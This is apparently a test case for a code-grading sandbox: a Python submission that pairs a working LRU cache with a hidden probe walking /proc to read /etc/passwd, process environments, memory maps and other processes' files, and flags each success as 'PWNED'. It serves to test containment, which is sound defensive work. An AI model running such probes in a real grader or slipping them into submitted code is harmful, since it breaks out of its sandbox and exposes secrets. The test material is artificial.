# ATTACK climbs_proc
# CLASS: filesystem
# TRIES: climbs out through /proc: root, cwd, exe, environ, maps and descriptors of itself and others.
# SAFE GRADER MUST: hide /proc from the submission.
# HONEST-RESULT: contained
# AT-MOST: 100
import os

def pwned(what):
    text = "PWN" + "ED-filesystem " + what
    print(text, flush=True)
    for path in ("/tmp/pwned_climbs_proc", "pwned_climbs_proc"):
        try:
            with open(path, "w") as file:
                file.write(text)
        except OSError:
            pass

for who in ("self", "thread-self", "1", str(os.getppid()), str(os.getpid())):
    for what in ("root/etc/passwd", "cwd/exercises", "environ", "maps", "mem", "cmdline", "mountinfo",
                 "ns/net", "root/../../etc/passwd", "task", "fdinfo/0"):
        path = f"/proc/{who}/{what}"
        try:
            found = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(20)
        except OSError:
            continue
        pwned(f"{path} {found!r:.60}")


class LRUCache:
    def __init__(self, capacity):
        self.room, self.entries = capacity, {}

    def get(self, key):
        if key not in self.entries:
            return -1
        self.entries[key] = value = self.entries.pop(key)
        return value

    def put(self, key, value):
        self.entries.pop(key, None)
        self.entries[key] = value
        if len(self.entries) > self.room:
            del self.entries[next(iter(self.entries))]
